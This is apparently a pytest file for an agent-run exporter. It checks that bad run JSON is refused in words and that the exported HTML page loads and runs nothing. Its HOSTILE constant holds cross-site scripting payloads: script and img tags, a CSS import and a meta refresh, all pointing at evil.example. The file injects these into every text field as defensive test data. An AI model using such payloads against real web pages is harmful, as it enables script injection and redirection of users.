"""Runs in files: JSON that is read back as it was or refused in words, and a page in which nothing runs."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import msgspec
import pytest

from app.agent.export import calls_of, run_from_json, run_to_json, turns_of_run
from app.agent.export_html import run_to_html
from app.agent.page_text import anchor
from app.conversations.parts import NoticePart, ReasoningPart, ReferencePart, TextPart, ToolCallPart, ToolResultPart
from app.errors import AppError
from tests.ui.run_examples import demo_run, malformed_call

HOSTILE = (
    "</pre></script><script src=//evil.example/x.js></script><img src=http://evil.example/a onerror=alert(1)>"
    '"\' onmouseover="alert(2)" <style>@import url(http://evil.example/b)</style>'
    "<meta http-equiv=refresh content=0;url=http://evil.example> &lt;b&gt; \u202eesrever \x00\x1b[31m ]]> <!--"
)
#: Attributes that could fetch or run something.
_REFERENCES = {"src", "href", "xlink:href", "action", "formaction", "data", "poster", "srcset", "background", "ping"}


@pytest.fixture(scope="module")
def export():
    return demo_run(30)


class Page(HTMLParser):
    """Notes elements, attributes and text of a page."""

    def __init__(self, page: bytes) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.words: list[str] = []
        self.comments: list[str] = []
        self.feed(page.decode("utf-8"))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        self.comments.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)


# --- JSON -----------------------------------------------------------------------------------------------------


def test_a_run_is_read_back_as_it_was_written(export):
    assert run_from_json(run_to_json(export)) == export


def test_a_run_file_says_what_it_is(export):
    values = json.loads(run_to_json(export))
    assert (values["form"], values["version"], values["run"]["key"]) == ("sawhorse-run", 1, "d3m0")


def changed(export, change):
    values = json.loads(run_to_json(export))
    change(values)
    return json.dumps(values).encode()


def spoil_span(**fields):
    return lambda values: values["run"]["spans"][3].update(fields)


@pytest.mark.parametrize(
    "change",
    [
        lambda values: values.pop("run"),
        lambda values: values.update(form="something"),
        lambda values: values.update(version=2),
        lambda values: values.update(turns="none"),
        lambda values: values["turns"].append(values["turns"][0]),
        lambda values: values["turns"][1]["parts"].append({"kind": "explosion"}),
        lambda values: values["turns"][0].update(id=2**40),
        spoil_span(turn_id=2**40),
        spoil_span(number=0),
        spoil_span(number=-1),
        spoil_span(start=-1.0),
        spoil_span(start=5.0, end=4.0),
        spoil_span(end=1e15),
        spoil_span(tokens=-3),
        spoil_span(kind="nap"),
        spoil_span(start="soon"),
    ],
)
def test_a_file_that_makes_no_sense_is_refused_in_words(export, change):
    with pytest.raises(AppError) as refused:
        run_from_json(changed(export, change))
    assert refused.value.title == "This run file cannot be opened"
    assert refused.value.message
    assert refused.value.hint


@pytest.mark.parametrize(
    "data",
    [b"", b"null", b"[]", b"{", b"\xff\xfe", b"[" * 100_000, b'{"run":' * 50_000, b"1e999", b'"\\ud800"'],
)
def test_what_is_no_run_is_refused_whatever_it_is(data):
    with pytest.raises(AppError):
        run_from_json(data)


def test_times_beyond_all_numbers_are_refused(export):
    data = run_to_json(export).replace(b'"start": 0.0', b'"start": 1e999', 1)
    with pytest.raises(AppError):
        run_from_json(data)


def test_too_large_a_file_is_refused_before_it_is_read(export, monkeypatch):
    monkeypatch.setattr("app.agent.export.MAX_BYTES", 1000)
    with pytest.raises(AppError, match="1,000 are the most"):
        run_from_json(run_to_json(export))


def test_more_spans_than_any_run_has_are_refused(export, monkeypatch):
    monkeypatch.setattr("app.agent.export.MAX_SPANS", 5)
    with pytest.raises(AppError, match="too much"):
        run_from_json(run_to_json(export))


# --- turns and calls --------------------------------------------------------------------------------------------


def test_the_turns_of_a_run_begin_with_its_task_and_end_before_the_next(export):
    earlier = msgspec.structs.replace(export.turns[0], id=0)
    later = msgspec.structs.replace(export.turns[0], id=999)
    assert turns_of_run([earlier, *export.turns, later], export.run) == export.turns


def test_a_run_that_ends_with_results_keeps_them(export):
    turns = export.turns[:3]
    run = msgspec.structs.replace(export.run, spans=tuple(s for s in export.run.spans if s.turn_id == turns[1].id))
    assert turns_of_run([*turns, msgspec.structs.replace(turns[0], id=50)], run) == turns


def test_calls_have_their_results_and_tools(export):
    calls = [call for own in calls_of(export.turns, export.tools).values() for call in own]
    assert all(call.state == "done" and call.result and call.spec and call.is_record for call in calls)
    bad = msgspec.structs.replace(export.turns[1], parts=(malformed_call(),))
    (call,) = calls_of([bad])[bad.id]
    assert (call.state, call.result, call.spec) == ("invalid", None, None)


def test_a_malformed_call_that_a_person_mended_is_done_in_the_record_too(export):
    bad = malformed_call()
    mended = ToolResultPart(call_id=bad.call_id, name="read_file", content="text", arguments={"path": "a.py"})
    written = msgspec.structs.replace(export.turns[1], parts=(bad,))
    results = msgspec.structs.replace(export.turns[2], parts=(mended,))
    (call,) = calls_of([written, results])[written.id]
    assert (call.state, call.result) == ("done", mended)


# --- the page ---------------------------------------------------------------------------------------------------


def hostile_export(export):
    """Return a run with hostile text wherever text can be."""
    call = ToolCallPart(call_id=HOSTILE, name=HOSTILE, arguments={HOSTILE: HOSTILE}, raw=HOSTILE)
    broken = msgspec.structs.replace(malformed_call(), call_id="x")
    broken = msgspec.structs.replace(broken, problems=tuple(
        msgspec.structs.replace(problem, message=HOSTILE) for problem in broken.problems
    ))  # fmt: skip
    result = ToolResultPart(
        call_id=HOSTILE, name=HOSTILE, content=HOSTILE, arguments={"a": HOSTILE}, sandbox=HOSTILE, seconds=1.0
    )
    notice = NoticePart(level="error", code="failed", title=HOSTILE, message=HOSTILE, hint=HOSTILE)
    user, assistant = export.turns[0], export.turns[1]
    file = ReferencePart(path=HOSTILE, text=HOSTILE)
    turns = (
        msgspec.structs.replace(user, parts=(file, TextPart(text=HOSTILE + "\n\n```js\n" + HOSTILE + "\n```"))),
        msgspec.structs.replace(
            assistant, parts=(ReasoningPart(text=HOSTILE), TextPart(text=HOSTILE), call, broken, notice), model=HOSTILE
        ),
        msgspec.structs.replace(export.turns[2], parts=(result,)),
    )
    spans = tuple(
        msgspec.structs.replace(span, title=HOSTILE, call_id=HOSTILE, outcome=HOSTILE) for span in export.run.spans[:6]
    )
    run = msgspec.structs.replace(export.run, workspace=HOSTILE, reason=HOSTILE, key=HOSTILE, spans=spans)
    tool = msgspec.structs.replace(export.tools[0], name=HOSTILE)
    return msgspec.structs.replace(export, run=run, turns=turns, tools=(tool,))


@pytest.mark.parametrize("make", [lambda export: export, hostile_export])
def test_a_page_refers_to_nothing_outside_itself_and_runs_nothing(export, make):
    page = Page(run_to_html(make(export)))
    assert not {"script", "img", "link", "iframe", "object", "embed", "base", "form", "image", "use"} & set(page.tags)
    assert not [value for _tag, name, value in page.attributes if name.startswith("on") or name == "style"]
    references = [value for _tag, name, value in page.attributes if name in _REFERENCES]
    assert references
    assert all(value.startswith("#") for value in references)
    assert page.tags.count("style") == 1
    assert page.tags.count("meta") == 4
    assert not page.comments


def test_hostile_text_stands_in_the_page_as_text(export):
    page = Page(run_to_html(hostile_export(export)))
    assert page.text.count("<script src=//evil.example/x.js></script>") >= 10
    names = {name for _tag, name, _value in page.attributes}
    assert names <= {
        *("charset", "http-equiv", "content", "name", "lang", "class", "id", "href", "viewbox", "role"),
        *("aria-label", "x", "y", "x1", "x2", "y1", "y2", "width", "height", "rx"),
    }


def test_what_hides_in_text_is_shown(export):
    text = Page(run_to_html(hostile_export(export))).text
    assert not {"\u202e", "\x00", "\x1b"} & set(text)
    assert "\u2400\u241b[31m" in text


def test_the_policy_allows_the_pages_own_style_and_nothing_else(export):
    import base64
    import hashlib

    page = run_to_html(export).decode()
    style = page.partition("<style>")[2].partition("</style>")[0]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    policy = next(
        value
        for tag, name, value in Page(page.encode()).attributes
        if (tag, name) == ("meta", "content") and "src" in value
    )
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert "url(" not in style
    assert "@import" not in style
    assert "prefers-color-scheme: dark" in style
    assert "$" not in style


def test_every_bar_leads_to_its_call_or_turn(export):
    page = Page(run_to_html(export))
    ids = {value for _tag, name, value in page.attributes if name == "id"}
    targets = {value[1:] for _tag, name, value in page.attributes if name == "href"}
    assert len(targets) > 30
    assert targets <= ids


def test_a_page_tells_the_whole_story(export):
    text = Page(run_to_html(export)).text
    assert "Fix the failing test of count_words" in text
    assert "python -m pytest -q" in text
    assert "1 failed" in text
    assert "The person refused: no network, please." in text
    assert "Step 30" in text
    assert "Waiting for you" in text


def test_anchors_are_plain_names_and_tell_call_ids_apart():
    assert anchor("call-a1") == "call-a1"
    assert anchor('"><b>').isascii()
    assert anchor("a b") != anchor("a_b")
    assert set(anchor(HOSTILE)) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")
